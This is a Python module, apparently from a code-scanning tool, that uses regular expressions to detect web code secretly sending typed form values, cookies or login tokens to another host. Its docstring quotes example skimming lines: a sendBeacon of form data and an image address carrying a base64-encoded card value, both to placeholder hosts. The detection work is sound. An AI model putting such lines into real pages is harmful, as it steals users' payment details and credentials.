"""What people type into forms, their cookies and logins, copied to another host out of their sight.

An ordinary page sends a form to its own server and shows the answer. Code that steals it uses a
channel that nobody sees: a beacon, the address of an image, a request whose failure is swallowed.
Only a literal address of another machine counts, and only what holds typed values or logins; a
beacon with timings or clicks is what beacons are for.

    navigator.sendBeacon("https://m.example/c", new FormData(form))    -> the call
    new Image().src = "https://p.example/g.gif?" + btoa(card.value)    -> the assignment
    fetch("/checkout", {method: "POST", body: new FormData(form)})     -> "", its own server
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice

import re2

from signoff.actions.contents.leaks.functions import arguments
from signoff.actions.known.hosts import HostClass, class_of_host
from signoff.actions.vocabulary import lazy_re, lazy_re2

_READ = 40_000  # characters
_MOST = 60
_PASSES = 3
_FEW = 6
# Values of a form, of a login or of a whole request, by what the platforms call them.
_TYPED = (
    r"new\s+FormData\s*\(\s*[\w$.]|\.serialize(?:Array|JSON|Object)?\(\)"
    r"|\bdocument\.cookie\b"
    r"|(?:headers?|cookies?)\s*(?:\(\s*\))?(?:\.get)?\s*[.(\[]\s*[\"']?(?:cookie|authorization|session\w*)\b"
    r"|\b(?:session|account|user|creds?|credentials?|tokens?|auth)\w{0,12}(?:\.|->|\[[\"'])"
    r"(?:access_?token|refresh_?token|id_?token|password|passwd|secret)"
    r"|\$_POST\b\s*[,;)]"
    # All headers of a request, a copy of one, and single secret values of it.
    r"|(?:\.\.\.|fromEntries\(|\bdict\(|stringify\()\s*[\w.]{0,40}\bheaders\b|\b(?:req|request)\.clone\(\)"
    r"|(?:form|data|json|cookies|values|body)\b(?:\(\))?(?:\.get\(|\[|\.)\s*[\"']?\w*(?:passw|pwd|secret|session|otp|cvc|cvv|iban|card_?n)\w*"
)
_TYPED_VALUE = r"\.value\b|\.val\(\)|\.innerText\b"
# A page element that people type into; `metric.value` is none.
_FIELD = lazy_re2(
    r"(?i)(?:querySelector(?:All)?|getElements?By\w+|closest|\$|jQuery)\s*\(\s*[\"'`][^\"'`\n]*"
    r"(?:input|passw|\bcard|[\[_#.-]cc[_-]|cvc|cvv|iban|checkout|payment|log-?in|user-?name|e-?mail)"
    r"|\.elements\s*[\[.][^;]{0,200}|[\"'](?:cvc|cvv2?|card_?number|iban)[\"']\s*[,\])]"
)
_SOURCE = lazy_re2(rf"(?i){_TYPED}")
_SOURCE_WITH_FIELDS = lazy_re2(rf"(?i){_TYPED}|{_TYPED_VALUE}")
_ASSIGNED = lazy_re2(
    r"\$?([A-Za-z_$][\w$]{0,40})(?:\[[^\]\n]{1,60}\])?\s*(?::=|=)\s*([^=>;\n][^;\n]{0,400})"
)
_CALL = lazy_re2(
    r"(?i)\b(?:sendBeacon|fetch|\w*post|request|ajax|\w*open|send)\s*\("
    r"|\btarget\s*=\s*[\w.]*(?:urlopen|post|request|send)\w*\s*,\s*args\s*=\s*\("
)
# A login in the address of another machine: `https://chat.example/e?t=${refreshToken}`.
_IN_ADDRESS = lazy_re2(
    r"(?i)[\"'`]https?://[^\"'`\n]{4,200}[\"'`]?[^;]{0,200}?[?&]\w+=(?:[\"'`]\s*\+\s*)?(?:\$\{)?(?:encodeURIComponent\()?[\w.]*(?:refresh_?token|passw(?:or)?d)\b"
)
# A constant that holds the address of another machine.
_CONSTANT = lazy_re2(
    r"\b([A-Za-z_]\w{2,40})\s*(?::\s*\w+\s*)?=\s*[\"'`]((?:https?|wss?)://[^\"'`\n]{4,200})[\"'`]"
)
_PIXEL = lazy_re2(
    r"(?i)(?:\bnew\s+Image\s*\([^)\n]{0,20}\)|\b\w{1,40})\.(?:src|href)\s*=\s*([^;\n]{0,600})"
)
_ADDRESS = lazy_re(r"(?i)[\"'`](?:https?:|wss?:)?//([\w.-]+)(?::\d+)?([^\"'`\n]*)")
# Where a login belongs: its own header, and the services that take, renew and end logins.
_HEADERS = lazy_re(r"(?i)\bheaders\s*:\s*\{[^{}]*\}")
_FOR_LOGINS = lazy_re2(r"(?i)oauth|token|revoke|introspect|log-?(?:in|out)|signin|/auth|callback")
# Nobody sees it happen, and nobody sees it fail.
_COVERT = lazy_re2(
    r"(?is)sendBeacon|\bThread\s*\(|create_task\s*\(|waitUntil\s*\(|keepalive\s*:\s*true|no-cors|\bbtoa\s*\(|base64"
    r"|\.catch\s*\(\s*(?:\(\s*\w*\s*\)|\w+|function\s*\(\w*\))\s*(?:=>)?\s*"
    r"(?:\{\s*\}|null|undefined|0)?\s*\)"
    r"|catch\s*(?:\(\s*\w*\s*\))?\s*\{\s*\}|rescue\s+nil|except[^\n]{0,30}:\s*pass"
)


def copies_what_is_typed(text: str) -> str:
    """Return a call that copies forms or logins to another host in secret, else ""."""
    head = text[:_READ]
    if "//" not in head or _SOURCE_WITH_FIELDS.search(head) is None:
        return ""
    source = _SOURCE_WITH_FIELDS if _FIELD.search(head) is not None else _SOURCE
    if (login := _IN_ADDRESS.search(head)) is not None and _goes_out(login.group()):
        return str(login.group())[:200]
    head = _with_addresses(head)
    names = _names_of(head, source)
    for sent, line, around in (*_calls(head), *_pixels(head)):
        if _goes_out(sent) and _COVERT.search(around) and _holds(sent, source, names):
            return line[:200]
    return ""


def _with_addresses(text: str) -> str:
    """Return a text in which each use of a constant address is the address itself."""
    for match in islice(_CONSTANT.finditer(text), _FEW):
        address = str(match.group(2)).replace("\\", "")
        text = str(re2.sub(rf"([(,]\s*){match.group(1)}\b", rf'\\1"{address}"', text))
    return text[: 2 * _READ]


def _calls(text: str) -> Iterator[tuple[str, str, str]]:
    """Yield the arguments of each call that may send, its text, and what stands around it."""
    for match in islice(_CALL.finditer(text), _MOST):
        given = arguments(text, match.end())
        end = match.end() + len(given)
        around = text[max(match.start() - 60, 0) : end + 80]
        yield given, text[match.start() : end + 1], around


def _pixels(text: str) -> Iterator[tuple[str, str, str]]:
    """Yield each address that an image or a page gets; one with a value in it is covert."""
    for match in islice(_PIXEL.finditer(text), _MOST):
        yield match.group(1), match.group(), f"btoa({match.group()}"


def _goes_out(sent: str) -> bool:
    """Whether a literal address of another machine stands first, and takes no logins."""
    match = _ADDRESS.search(sent[:200])
    if match is None or class_of_host(match.group(1)) is HostClass.LOOPBACK:
        return False
    return _FOR_LOGINS.search(match.group(1) + match.group(2)) is None


def _holds(sent: str, source: re2._Regexp[str], names: frozenset[str]) -> bool:
    """Whether what is sent, apart from its headers, holds a typed value or a login."""
    body = _HEADERS.sub("", sent)
    return source.search(body) is not None or _mentions(body, names)


def _mentions(text: str, names: frozenset[str]) -> bool:
    if not names:
        return False
    found = re2.search(rf"(?:^|[^\w.$])(?:{_any_of(names)})(?:[^\w:]|$)", text)
    return found is not None


def _any_of(names: frozenset[str]) -> str:
    return "|".join(re2.escape(name) for name in sorted(names))


def _names_of(text: str, source: re2._Regexp[str]) -> frozenset[str]:
    """Return the names that are given a typed value, directly or over other names."""
    pairs = [(one.group(1), one.group(2)) for one in islice(_ASSIGNED.finditer(text), _MOST)]
    names: frozenset[str] = frozenset()
    for _ in range(_PASSES):
        found = [name for name, value in pairs if source.search(value) or _mentions(value, names)]
        names = frozenset(found)
    return names
